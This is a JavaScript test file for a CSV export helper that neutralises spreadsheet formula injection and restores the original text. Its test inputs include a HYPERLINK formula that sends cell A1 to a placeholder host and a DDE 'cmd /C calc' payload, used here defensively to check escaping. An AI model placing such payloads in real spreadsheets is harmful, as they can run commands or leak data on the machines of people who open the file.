import { neutraliseFormula, restoreFormula } from './csv-cells.js';

describe('CSV cells: spreadsheet formulas', () => {
  const formulas = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    "+cmd|' /C calc'!A0",
    '@SUM(1)',
    '-2+3',
    '\t=1+1',
    '\rcmd',
    '=',
  ];

  it.each(formulas)('prefixes %j with a single quote', (value) => {
    expect(neutraliseFormula(value)).toBe(`'${value}`);
  });

  it.each(['Aigerim', 'Сәрсенова', "O'Neil", 'a=b', ' =1', '2026-02-01', '', "'quoted'", 'line\n=2'])(
    'leaves %j as it is',
    (value) => {
      expect(neutraliseFormula(value)).toBe(value);
      expect(restoreFormula(value)).toBe(value);
    },
  );

  it('takes an exported cell back to the original text, one quote only', () => {
    expect(restoreFormula("'=SUM(1)")).toBe('=SUM(1)');
    expect(restoreFormula("'-2+3")).toBe('-2+3');
    expect(restoreFormula("'\tx")).toBe('\tx');
    expect(restoreFormula("''=1")).toBe("'=1");
    expect(restoreFormula("'plain")).toBe("'plain");
  });

  it('quotes a text that already starts with a quote before a formula character, so it survives the trip', () => {
    expect(neutraliseFormula("'=1")).toBe("''=1");
    expect(neutraliseFormula("''@x")).toBe("'''@x");
  });

  it('round-trips every text unchanged', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', '\n', 'a', ' ', '"', ','];
    // Every text of up to 4 characters over an alphabet holding each special character.
    let texts = [''];
    for (let length = 1; length <= 4; length++) {
      texts = texts.concat(
        texts.filter((text) => text.length === length - 1).flatMap((text) => alphabet.map((c) => text + c)),
      );
    }
    expect(texts.length).toBeGreaterThan(20_000);
    for (const text of texts) {
      const exported = neutraliseFormula(text);
      expect(/^[=+\-@\t\r]/.test(exported)).toBe(false);
      expect(restoreFormula(exported)).toBe(text);
    }
  });
});
